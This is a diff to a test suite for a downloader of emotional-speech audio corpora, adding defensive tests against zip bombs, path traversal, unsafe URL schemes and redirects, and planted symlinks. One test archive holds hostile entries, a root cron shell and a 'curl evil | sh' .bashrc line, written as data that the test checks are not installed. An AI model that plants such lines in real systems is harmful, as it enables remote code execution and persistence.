@@ -2,6 +2,7 @@
 each source's real shape (Zenodo record, GitHub tree + LFS media, Dataverse dataset). Nothing touches the
 internet."""
 
+import contextlib
 import hashlib
 import io
 import json
@@ -56,6 +57,7 @@ class FixtureServer(ThreadingHTTPServer):
         self.faults: dict[str, list[str]] = {}
         self.broken: set[str] = set()
         self.ignore_range = False
+        self.redirects: dict[str, str] = {}  # path -> Location of a 302
         self.requests: list[tuple[str, str | None]] = []
         self.lock = threading.Lock()
 
@@ -75,6 +77,12 @@ class Handler(BaseHTTPRequestHandler):
             server.requests.append((self.path, self.headers.get("Range")))
             pending = server.faults.get(self.path)
             fault = pending.pop(0) if pending else None
+        if self.path in server.redirects:
+            self.send_response(302)
+            self.send_header("Location", server.redirects[self.path])
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
         if self.path in server.broken or fault == "500":
             self.send_error(500, "fixture server error")
             return
@@ -509,3 +517,156 @@ def test_a_corpus_installed_by_hand_in_another_format_is_not_downloaded_again(tm
     for i in range(3):
         (actor / f"03-01-0{i + 1}-01-01-01-01.flac").write_bytes(b"fLaC")
     assert dl._already_installed("ravdess", tmp_path / "ravdess", expected=3)
+
+
+# Hostile sources: archives, listings, URLs and leftovers ----------------------------------------------------
+
+def ravdess_zip(path: Path, entries: dict[str, bytes] | list[tuple[str, bytes]]) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in (entries.items() if isinstance(entries, dict) else entries):
+            archive.writestr(name, data)
+    return path
+
+
+def clips(body=None) -> dict[str, bytes]:
+    return {name: body if body is not None else wav_bytes(i) for i, name in enumerate(RAVDESS_CLIPS)}
+
+
+def shutil_usage(**sizes):
+    import shutil
+
+    return shutil._ntuple_diskusage(**sizes)
+
+
+def install_local(zip_path: Path, data_dir: Path, **settings) -> int:
+    return dl.Ravdess(archive_url=str(zip_path), expected=len(RAVDESS_CLIPS), **settings).install(data_dir, **FAST)
+
+
+def test_an_archive_declaring_more_than_the_cap_or_the_free_space_is_refused_before_unpacking(tmp_path, monkeypatch):
+    big = clips()
+    big[RAVDESS_CLIPS[0]] = wav_bytes(0) + bytes(20 * 2**20)  # 20 MB of zeros, a few KB zipped
+    archive = ravdess_zip(tmp_path / "big.zip", big)
+    assert archive.stat().st_size < 100_000
+    with pytest.raises(dl.DownloadError, match=r"would unpack to 20 MB, more than sources.ravdess.max_unpacked_mb=10"):
+        install_local(archive, tmp_path / "data", max_unpacked_mb=10)
+    monkeypatch.setattr(dl.shutil, "disk_usage", lambda path: shutil_usage(total=2**30, used=2**30 - 2**20,
+                                                                           free=2**20))
+    with pytest.raises(dl.DownloadError, match=r"unpacks to 20 MB, but .* has only 1 MB free"):
+        install_local(archive, tmp_path / "data")
+    assert not (tmp_path / "data" / "ravdess").exists() and leftovers(tmp_path / "data") == []
+
+
+def test_only_clips_of_the_layout_are_unpacked_and_recorded(tmp_path):
+    entries = {**clips(), "etc/cron.d/PWNED_abs": b"* * * * * root sh", ".bashrc": b"curl evil | sh",
+               "payload.py": b"import os", "Actor_01\\evil.wav": wav_bytes(9), "Actor_01/notes.txt": b"x",
+               "__MACOSX/Actor_01/._03-01-01-01-01-01-01.wav": b"mac", "Actor_1/03-01-01-01-01-01-01.wav": wav_bytes(8),
+               "../Actor_03/03-01-01-01-01-01-03.wav": wav_bytes(7)}
+    install_local(ravdess_zip(tmp_path / "stray.zip", entries), tmp_path / "data")
+    root = tmp_path / "data" / "ravdess"
+    installed = sorted(p.relative_to(root / "Audio_Speech_Actors_01-24").as_posix()
+                       for p in root.rglob("*") if p.is_file() and p.name != dl.MARKER)
+    assert installed == sorted(RAVDESS_CLIPS)
+    assert sorted(dl.read_marker(root)["files"]) == sorted(f"Audio_Speech_Actors_01-24/{c}" for c in RAVDESS_CLIPS)
+    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == ["ravdess"]
+
+
+def test_clips_that_are_not_audio_are_not_installed_as_verified(tmp_path):
+    with pytest.raises(dl.DownloadError, match=r"Actor_01/03-01-01-01-01-01-01.wav is not audio"):
+        install_local(ravdess_zip(tmp_path / "fake.zip", clips(b"RIFFnotreallyawav")), tmp_path / "data")
+    assert not (tmp_path / "data" / "ravdess").exists()
+
+
+@pytest.mark.parametrize("duplicate", ["Actor_01/03-01-01-01-01-01-01.wav",
+                                       "wrapper/Actor_01/03-01-01-01-01-01-01.wav"])
+def test_an_archive_holding_a_clip_twice_is_refused(tmp_path, duplicate):
+    entries = [*clips().items(), (duplicate, b"RIFF" + bytes(40))]
+    with pytest.warns(UserWarning, match="Duplicate") if duplicate.startswith("Actor") else contextlib.nullcontext():
+        archive = ravdess_zip(tmp_path / "twice.zip", entries)
+    with pytest.raises(dl.DownloadError, match=r"holds Actor_01/03-01-01-01-01-01-01.wav twice"):
+        install_local(archive, tmp_path / "data")
+    assert not (tmp_path / "data" / "ravdess").exists()
+
+
+def test_per_file_sources_install_only_audio_under_the_corpus_names(server, tmp_path):
+    crema = serve_crema_d(server)
+    server.routes[f"/media/AudioWAV/{CREMA_CLIPS[0]}"] = b"RIFFnotreallyawav"
+    with pytest.raises(dl.DownloadError, match=r"(?s)1 of 5 files failed.*is not audio"):
+        dl.CremaD(**crema).install(tmp_path, workers=2, **FAST)
+    assert not (tmp_path / "crema_d" / "AudioWAV" / CREMA_CLIPS[0]).exists()
+    tess = serve_tess(server)
+    dataset = json.loads(server.routes[DATASET_PATH])
+    dataset["data"]["latestVersion"]["files"][0]["dataFile"]["filename"] = "payload.py.wav"
+    server.routes[DATASET_PATH] = json.dumps(dataset).encode()
+    with pytest.raises(dl.DownloadError, match=r"lists OAF_angry/'payload.py.wav' .*not a TESS clip"):
+        dl.Tess(**tess).install(tmp_path, **FAST)
+
+
+@pytest.mark.parametrize("url, message", [
+    ("http://emotion-mirror.invalid/Audio_Speech_Actors_01-24.zip", "plain http without a checksum"),
+    ("data:application/zip;base64,UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==", "not an https, http, file:// URL"),
+    ("ftp://127.0.0.1/Audio_Speech_Actors_01-24.zip", "not an https, http, file:// URL")])
+def test_network_sources_must_be_https_or_checksummed(tmp_path, url, message):
+    with pytest.raises(dl.DownloadError, match=message):
+        dl.Ravdess(record_url=None, archive_url=url).install(tmp_path, **FAST)
+    assert not (tmp_path / "ravdess").exists()
+
+
+@pytest.mark.parametrize("location, message", [
+    ("ftp://127.0.0.1/Audio_Speech_Actors_01-24.zip", "another scheme"),
+    ("http://emotion-mirror.invalid/Audio_Speech_Actors_01-24.zip", "plain http without a checksum")])
+def test_redirects_keep_the_scheme_and_the_rules(server, tmp_path, location, message):
+    crema = serve_crema_d(server)
+    server.redirects["/raw/VideoDemographics.csv"] = location
+    with pytest.raises(dl.DownloadError, match=message):
+        dl.CremaD(**crema).install(tmp_path, workers=1, **FAST)
+
+
+def test_a_record_whose_file_link_is_a_local_path_is_refused(server, tmp_path):
+    secret = tmp_path / "secret"
+    secret.write_bytes(b"private")
+    secret.chmod(0o600)
+    source = serve_ravdess(server)
+    record = json.loads(server.routes[RECORD_PATH])
+    record["files"][1]["links"]["self"] = str(secret)
+    server.routes[RECORD_PATH] = json.dumps(record).encode()
+    with pytest.raises(dl.DownloadError, match=r"is '.*secret', not an http\(s\) URL"):
+        dl.Ravdess(**source).install(tmp_path / "data", **FAST)
+    assert not (tmp_path / "data" / "ravdess").exists() or list((tmp_path / "data" / "ravdess").iterdir()) == []
+
+
+def test_a_leftover_part_without_size_or_checksum_is_not_trusted(server, tmp_path):
+    crema = serve_crema_d(server)
+    part = tmp_path / "crema_d" / "AudioWAV" / f"{CREMA_CLIPS[0]}.part"
+    part.parent.mkdir(parents=True)
+    served = server.routes[f"/media/AudioWAV/{CREMA_CLIPS[0]}"]
+    part.write_bytes(served + b"planted tail")  # longer than the file: the server answers 416 to its Range
+    dl.CremaD(**crema).install(tmp_path, workers=2, **FAST)
+    assert (tmp_path / "crema_d" / "AudioWAV" / CREMA_CLIPS[0]).read_bytes() == served
+
+
+def test_a_part_planted_as_a_symbolic_link_never_writes_through_it(server, tmp_path):
+    source = serve_ravdess(server)
+    victim = tmp_path / "victim.txt"
+    victim.write_bytes(b"precious")
+    part = tmp_path / "data" / "ravdess" / "Audio_Speech_Actors_01-24.zip.part"
+    part.parent.mkdir(parents=True)
+    part.symlink_to(victim)
+    assert dl.Ravdess(**source).install(tmp_path / "data", **FAST) == len(RAVDESS_CLIPS)
+    assert victim.read_bytes() == b"precious" and not part.is_symlink()
+
+
+def test_a_failed_unpack_leaves_nothing_behind(tmp_path):
+    archive = ravdess_zip(tmp_path / "mirror" / "Audio_Speech_Actors_01-24.zip", dict(list(clips().items())[:5]))
+    with pytest.raises(dl.DownloadError, match="holds 5 clips"):
+        install_local(archive, tmp_path / "data")
+    assert not (tmp_path / "data" / "ravdess").exists() and leftovers(tmp_path / "data") == []
+    assert archive.exists()  # the user's own copy stays
+
+
+def test_a_file_where_the_corpus_folder_goes_is_one_clear_error(tmp_path):
+    (tmp_path / "ravdess").write_text("not a folder")
+    archive = ravdess_zip(tmp_path / "mirror" / "Audio_Speech_Actors_01-24.zip", clips())
+    sources = {"ravdess": {"archive_url": str(archive), "expected": len(RAVDESS_CLIPS)}}
+    with pytest.raises(dl.DownloadError, match=r"ravdess: cannot write .*ravdess.*a file and a folder"):
+        dl.download("ravdess", tmp_path, sources, **FAST)
